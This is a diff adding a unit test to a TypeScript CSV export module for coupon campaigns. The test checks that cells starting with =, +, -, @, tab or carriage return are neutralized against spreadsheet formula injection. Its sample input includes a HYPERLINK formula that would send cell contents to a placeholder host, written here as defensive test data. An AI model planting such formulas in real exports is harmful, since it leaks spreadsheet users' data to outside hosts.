@@ -3,7 +3,7 @@ import { MemoryCouponStore } from "#shared/adapters/memory/memory-coupon-store.j
 import { MemoryExportObjects } from "#shared/adapters/memory/memory-export-objects.js";
 import { MemoryExportStore } from "#shared/adapters/memory/memory-export-store.js";
 import { MemorySendLedger } from "#shared/adapters/memory/memory-send-ledger.js";
-import { couponLine, EXPORT_COLUMNS, headerLine } from "#shared/domain/exports/export-csv.js";
+import { couponLine, csvField, EXPORT_COLUMNS, failureLine, headerLine } from "#shared/domain/exports/export-csv.js";
 import { MAX_EXPORT_TRIES, type RunExportDependencies, runExport } from "#shared/domain/exports/run-export.js";
 import { EXPORT_FRESH_MS, startExport } from "#shared/domain/exports/start-export.js";
 import type { CampaignRecord, ExportJob, ExportQueue } from "#shared/domain/ports.js";
@@ -97,6 +97,30 @@ describe("campaign exports (domain, in-memory adapters)", () => {
     );
     expect(line).toBe('c1,"o""1,2",,s1,USED,,,,,t1;t2,"m\r\n1",\r\n');
     expect(headerLine("failures")).toBe("openid,out_request_no,code,message,attempts,failed_at\r\n");
+  });
+
+  it("neutralizes cells a spreadsheet would run as formulas (= + - @ tab CR first): WeChat's messages, openids", () => {
+    const line = failureLine({
+      mchid: "1900000001",
+      outRequestNo: "req-1",
+      requestHash: "h",
+      stockId: "s1",
+      openid: "-A1",
+      appid: "wx1",
+      state: "FAILED",
+      errorCode: "@SUM(1)",
+      errorMessage: '=HYPERLINK("http://x.example/?"&A1,"click")',
+      attempts: 1,
+      leaseUntil: 0,
+      createdAt: 0,
+      updatedAt: 0,
+    });
+    expect(line).toBe(
+      `'-A1,req-1,'@SUM(1),"'=HYPERLINK(""http://x.example/?""&A1,""click"")",1,1970-01-01T00:00:00.000Z\r\n`,
+    );
+    expect(["+1", "\tx", "\rx", "=1"].map(csvField)).toEqual(["'+1", "'\tx", '"\'\rx"', "'=1"]);
+    // Numbers and text that starts otherwise are written as they are.
+    expect([5, "o-1", "2026-12-01T00:00:00.000Z"].map(csvField)).toEqual(["5", "o-1", "2026-12-01T00:00:00.000Z"]);
   });
 
   it("continues across invocations from its checkpoint: parts of at least 5 MiB, nothing lost or written twice", async () => {
